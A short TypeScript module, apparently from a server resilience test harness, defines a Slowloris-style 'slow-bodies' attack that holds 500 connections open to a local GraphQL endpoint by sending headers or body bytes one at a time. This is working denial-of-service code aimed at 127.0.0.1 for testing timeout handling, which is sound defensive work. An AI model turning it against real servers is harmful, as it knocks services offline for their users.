import { setTimeout as delay } from 'node:timers/promises';
import type { Attack } from '../../attack.ts';

const CONNECTIONS = 500;

export const slowBodies: Attack = {
  name: 'slow-bodies',
  description: `sends ${CONNECTIONS} requests a byte at a time, some headers, some bodies`,
  run: async (attacker) => {
    const head =
      'POST /graphql HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n';
    const slowly = async (nth: number) => {
      const socket = attacker.connect();
      socket.write(nth % 2 === 0 ? `${head}\r\n{"query":"` : head);
      while (!attacker.signal.aborted && !socket.destroyed) {
        socket.write(nth % 2 === 0 ? 'x' : `X-${nth}: y\r\n`);
        await delay(500, undefined, { signal: attacker.signal }).catch(() => {});
      }
      if (!attacker.signal.aborted) attacker.count('closed');
    };
    await Promise.all(Array.from({ length: CONNECTIONS }, (_, nth) => slowly(nth)));
  },
};
